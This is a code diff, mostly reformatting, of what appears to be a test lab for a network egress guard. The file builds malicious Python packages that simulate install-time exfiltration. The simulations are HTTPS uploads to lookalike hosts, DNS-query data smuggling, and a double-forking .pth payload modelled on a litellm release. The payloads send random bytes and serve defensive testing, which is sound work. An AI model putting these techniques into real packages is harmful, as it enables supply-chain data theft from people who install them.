@@ -22,7 +22,7 @@ from tests.lab.netlab import RAW_IP
 
 WHEELS = Path(__file__).with_name("wheels.txt")
 
-_UPLOAD = '''
+_UPLOAD = """
 import http.client, os, ssl
 def upload(host, size, path="/upload", method="POST", tls=True, port=None):
     body = os.urandom(size)
@@ -35,7 +35,7 @@ def upload(host, size, path="/upload", method="POST", tls=True, port=None):
                                                     "X-Filename": "tpcp.tar.gz"})
     conn.getresponse().read()
     conn.close()
-'''
+"""
 
 ATTACKS = {
     # An install-time HTTPS POST of 256 KB of random bytes to a lookalike of the file CDN.
@@ -55,7 +55,7 @@ ATTACKS = {
     # 8 MB to the allowlisted index itself: allowed host, above its upload limit.
     "index-upload": 'upload("files.pythonhosted.org", 8 * 1024 * 1024, method="PUT")',
     # Data smuggled out in DNS query names, hex-encoded, one chunk per query.
-    "dns-hex": textwrap.dedent('''
+    "dns-hex": textwrap.dedent("""
         import os, socket, time
         secret = os.urandom(200).hex()
         for i in range(0, len(secret), 40):
@@ -64,13 +64,13 @@ ATTACKS = {
             except OSError:
                 pass
             time.sleep(0.05)
-    '''),
+    """),
 }
 
 # The .pth payload, as litellm 1.82.8 shipped it: the .pth line starts a new interpreter with a
 # base64 payload. That payload double-forks so the uploader is nobody's child, waits for the
 # interpreter that fired the .pth to exit, then uploads 256 KB to a brand-plus-word lookalike.
-PTH_PAYLOAD = _UPLOAD + textwrap.dedent('''
+PTH_PAYLOAD = _UPLOAD + textwrap.dedent("""
     import os, sys, time
     starter = int(sys.argv[1])
     if os.fork() == 0:
@@ -88,7 +88,7 @@ PTH_PAYLOAD = _UPLOAD + textwrap.dedent('''
             finally:
                 os._exit(0)
     os._exit(0)
-''')
+""")
 
 
 def pth_line() -> str:
@@ -104,15 +104,31 @@ def pth_line() -> str:
 def download_wheels(target: Path) -> list[Path]:
     """The real wheels of wheels.txt, fetched once per machine with their hashes checked."""
     target.mkdir(parents=True, exist_ok=True)
-    wanted = [line.split()[0] for line in WHEELS.read_text().splitlines()
-              if line.strip() and not line.startswith("#")]
+    wanted = [
+        line.split()[0]
+        for line in WHEELS.read_text().splitlines()
+        if line.strip() and not line.startswith("#")
+    ]
     have = list(target.glob("*.whl"))
     if len(have) < len(wanted):
         subprocess.run(
-            [sys.executable, "-m", "pip", "download", "--no-deps", "--only-binary=:all:",
-             "--require-hashes", "--disable-pip-version-check", "-r", str(WHEELS),
-             "-d", str(target)],
-            check=True, capture_output=True, timeout=600,
+            [
+                sys.executable,
+                "-m",
+                "pip",
+                "download",
+                "--no-deps",
+                "--only-binary=:all:",
+                "--require-hashes",
+                "--disable-pip-version-check",
+                "-r",
+                str(WHEELS),
+                "-d",
+                str(target),
+            ],
+            check=True,
+            capture_output=True,
+            timeout=600,
         )
     return sorted(target.glob("*.whl"))
 
@@ -120,7 +136,11 @@ def download_wheels(target: Path) -> list[Path]:
 def attack_sdist(name: str, payload: str, out: Path) -> Path:
     project = f"egl-{name}"
     base = f"{project.replace('-', '_')}-1.0"
-    setup = _UPLOAD + payload + f"\nfrom setuptools import setup\nsetup(name={project!r}, version='1.0')\n"
+    setup = (
+        _UPLOAD
+        + payload
+        + f"\nfrom setuptools import setup\nsetup(name={project!r}, version='1.0')\n"
+    )
     pkg_info = f"Metadata-Version: 2.1\nName: {project}\nVersion: 1.0\n"
     path = out / f"{base}.tar.gz"
     with tarfile.open(path, "w:gz") as tar:
@@ -139,7 +159,7 @@ def pth_wheel(out: Path) -> Path:
         "egl_pth_init.pth": pth_line(),
         f"{dist}/METADATA": "Metadata-Version: 2.1\nName: egl-pth\nVersion: 1.0\n",
         f"{dist}/WHEEL": "Wheel-Version: 1.0\nGenerator: egressguard-lab\nRoot-Is-Purelib: true\n"
-                         "Tag: py3-none-any\n",
+        "Tag: py3-none-any\n",
     }
     record = []
     for member, text in files.items():
